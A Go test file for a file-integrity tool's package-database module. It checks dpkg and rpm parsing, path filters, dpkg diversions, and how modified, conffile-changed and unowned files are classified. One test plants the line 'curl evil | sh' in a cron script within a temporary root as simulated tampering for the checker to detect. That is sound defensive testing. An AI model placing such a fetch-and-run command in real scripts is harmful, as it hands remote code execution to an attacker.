package pkgdb

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/tripline/tripline/baseline"
	"github.com/tripline/tripline/internal/pkgtest"
)

func TestParseStatus(t *testing.T) {
	in := `Package: a
Status: install ok installed
Version: 1.0-1
Architecture: amd64
Multi-Arch: same
Conffiles:
 /etc/a.conf 0123456789abcdef0123456789abcdef
 /etc/old.conf 0123456789abcdef0123456789abcdef obsolete
 /etc/new.conf newconffile
Description: x
 continued

Package: gone
Status: deinstall ok not-installed
Version: 2

Version: 3
Status: install ok installed

Package: b
Status: install ok config-files
Version: 1:2.0
`
	var got []dpkgPackage
	err := ParseStatus(strings.NewReader(in), func(p dpkgPackage) { got = append(got, p) })
	if err == nil || !strings.Contains(err.Error(), "without Package") {
		t.Errorf("err %v, want the stanza without Package named", err)
	}
	if len(got) != 2 || got[0].Name != "a" || got[1].Name != "b" || got[1].Version != "1:2.0" {
		t.Fatalf("got %+v", got)
	}
	a := got[0]
	if a.Arch != "amd64" || a.MultiArch != "same" || len(a.Conffiles) != 2 || a.Conffiles[0].Path != "/etc/a.conf" ||
		len(a.Conffiles[0].MD5) != 16 || a.Conffiles[1].MD5 != nil {
		t.Errorf("a: %+v", a)
	}
}

func TestParseMD5sums(t *testing.T) {
	in := "0123456789abcdef0123456789abcdef  usr/bin/x\nnot a line\n0123456789abcdef0123456789abcdef  etc/a b\n"
	var ps []string
	err := ParseMD5sums([]byte(in), func(p, _ []byte) { ps = append(ps, string(p)) })
	if err == nil || strings.Join(ps, ",") != "/usr/bin/x,/etc/a b" {
		t.Errorf("paths %q err %v: want both good lines and the bad one counted", ps, err)
	}
}

func TestPrefixFilter(t *testing.T) {
	keep := NewFilter([]string{"/etc/cron.d/*", "/etc/cron.d/sub/*", "/etc/systemd/system-generators/*", "/usr/lib/systemd/system-generators/*",
		"/home/*/.bashrc", "/usr/lib/python3*/site-packages/dnf-plugins/*", "/lib/udev/rules.d/*"})
	for p, want := range map[string]bool{"/etc/cron.d/x": true, "/etc/cron.d": true, "/etc/cron.daily/x": false, "/etc": true,
		"/usr/bin/ls": false, "/home/u/.bashrc": true, "/etc/passwd": false, "/usr/lib/python3.11/site-packages/x": true,
		"/usr/lib/x86_64-linux-gnu/libc.so.6": false, "/lib/systemd/system-generators/x": true, "/usr/lib/udev/rules.d/x": true,
		"/lib/udev/hwdb.d/x": false} {
		if keep.Keep([]byte(p)) != want {
			t.Errorf("keep(%q) = %v", p, !want)
		}
	}
}

// fixture is what the real-package tests install.
func fixture(version, cron string) pkgtest.Spec {
	return pkgtest.Spec{Name: "tripline-pkgdb", Version: version, Files: map[string]pkgtest.File{
		"/etc/cron.daily/tripline-pkgdb":                {Content: cron, Mode: 0o755},
		"/etc/tripline-pkgdb.conf":                      {Content: "a=1\n", Mode: 0o644, Conffile: true},
		"/lib/systemd/system-generators/tripline-pkgdb": {Content: "#!/bin/sh\n", Mode: 0o755},
	}}
}

// mergedRoot makes a root whose /lib is a symlink to usr/lib, as a merged-/usr Debian has.
func mergedRoot(t *testing.T) string {
	root := t.TempDir()
	if err := os.MkdirAll(filepath.Join(root, "usr/lib"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("usr/lib", filepath.Join(root, "lib")); err != nil {
		t.Fatal(err)
	}
	return root
}

func stat(t *testing.T, root, p string) *baseline.Entry {
	t.Helper()
	e, err := baseline.Stat(root, p, 0)
	if err != nil {
		t.Fatal(err)
	}
	return &e
}

// checkReal installs a package, alters one file and checks what Verify says of each.
func checkReal(t *testing.T, root, typ, version string) {
	ix, err := Load(context.Background(), root, Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Log(ix.Summary())
	if !ix.Complete() || ix.Packages() != 1 {
		t.Fatalf("%s: want one package read completely", ix.Summary())
	}
	if err := os.WriteFile(filepath.Join(root, "etc/cron.daily/tripline-pkgdb"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(root, "etc/tripline-pkgdb.conf"), []byte("a=2\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(root, "etc/cron.daily/unowned"), []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	read := ContentReader(root)
	for _, c := range []struct {
		path  string
		state baseline.PackageState
	}{
		{"/etc/cron.daily/tripline-pkgdb", baseline.PkgModified},
		{"/etc/tripline-pkgdb.conf", baseline.PkgConffileModified},
		{"/usr/lib/systemd/system-generators/tripline-pkgdb", baseline.PkgVerified}, // merged /usr
		{"/etc/cron.daily/unowned", baseline.PkgUnowned},
	} {
		p := ix.Verify(stat(t, root, c.path), read)
		if p == nil || p.State != c.state {
			t.Errorf("%s: %+v, want %s", c.path, p, c.state)
			continue
		}
		if c.state != baseline.PkgUnowned && (p.Name != "tripline-pkgdb" || p.Version != version || p.Type != typ) {
			t.Errorf("%s: %+v, want tripline-pkgdb %s (%s)", c.path, p, version, typ)
		}
		t.Logf("%s: %s %s", c.path, p.State, p.Detail)
	}
	// A mode change alone is a modification where the package recorded the mode (rpm).
	if typ == TypeRPM {
		gen := filepath.Join(root, "usr/lib/systemd/system-generators/tripline-pkgdb")
		if err := os.Chmod(gen, 0o777); err != nil {
			t.Fatal(err)
		}
		if p := ix.Verify(stat(t, root, "/usr/lib/systemd/system-generators/tripline-pkgdb"), read); p.State != baseline.PkgModified || !strings.Contains(p.Detail, "mode 0777") {
			t.Errorf("chmod 0777: %+v, want modified (mode)", p)
		}
	}
}

func TestDpkgReal(t *testing.T) {
	pkgtest.Need(t, "dpkg", "dpkg-deb")
	root := mergedRoot(t)
	pkgtest.DpkgRoot(t, root)
	pkgtest.InstallDeb(t, root, pkgtest.BuildDeb(t, fixture("1.0", "#!/bin/sh\necho 1\n")))
	checkReal(t, root, TypeDeb, "1.0")
}

func TestRPMReal(t *testing.T) {
	pkgtest.Need(t, "rpm", "rpmbuild")
	root := mergedRoot(t)
	pkgtest.InstallRPM(t, root, pkgtest.BuildRPM(t, fixture("1.0", "#!/bin/sh\necho 1\n")))
	checkReal(t, root, TypeRPM, "1.0-1")
}

func TestNoDatabase(t *testing.T) {
	ix, err := Load(context.Background(), t.TempDir(), Options{})
	if err != nil || !ix.Empty() {
		t.Fatalf("%v %v", ix.Summary(), err)
	}
	if p := ix.Verify(&baseline.Entry{Path: "/etc/x", Type: baseline.TypeFile}, nil); p != nil {
		t.Errorf("no database: %+v, want nil (not unowned)", p)
	}
}

// The cache reloads only when the database changes.
func TestCacheReload(t *testing.T) {
	root := t.TempDir()
	writeDpkg(t, root, 3, 2)
	c := NewCache(root, Options{})
	ctx := context.Background()
	ix1, err := c.Index(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if ix2, _ := c.Index(ctx); ix2 != ix1 || c.Loads() != 1 {
		t.Fatalf("unchanged database reloaded (%d loads)", c.Loads())
	}
	writeDpkg(t, root, 4, 2)
	ix3, _ := c.Index(ctx)
	if ix3 == ix1 || c.Loads() != 2 || ix3.Packages() != 4 {
		t.Fatalf("changed database: %d loads, %d packages", c.Loads(), ix3.Packages())
	}
}

// A file moved aside by dpkg-divert is its package's under the new name; the admin's file put
// in its place is no package's.
func TestDpkgDiversion(t *testing.T) {
	pkgtest.Need(t, "dpkg", "dpkg-deb", "dpkg-divert")
	root := mergedRoot(t)
	pkgtest.DpkgRoot(t, root)
	pkgtest.InstallDeb(t, root, pkgtest.BuildDeb(t, fixture("1.0", "#!/bin/sh\necho 1\n")))
	out, err := exec.Command("dpkg-divert", "--root="+root, "--local", "--rename", "--divert", "/etc/cron.daily/tripline-pkgdb.distrib",
		"--add", "/etc/cron.daily/tripline-pkgdb").CombinedOutput()
	if err != nil {
		t.Fatalf("dpkg-divert: %v\n%s", err, out)
	}
	if err := os.WriteFile(filepath.Join(root, "etc/cron.daily/tripline-pkgdb"), []byte("#!/bin/sh\nlocal\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	ix, err := Load(context.Background(), root, Options{})
	if err != nil {
		t.Fatal(err)
	}
	read := ContentReader(root)
	if p := ix.Verify(stat(t, root, "/etc/cron.daily/tripline-pkgdb.distrib"), read); p == nil || p.State != baseline.PkgVerified || p.Name != "tripline-pkgdb" {
		t.Errorf("diverted original: %+v", p)
	}
	if p := ix.Verify(stat(t, root, "/etc/cron.daily/tripline-pkgdb"), read); p == nil || p.State != baseline.PkgUnowned {
		t.Errorf("the admin's file in its place: %+v", p)
	}
}
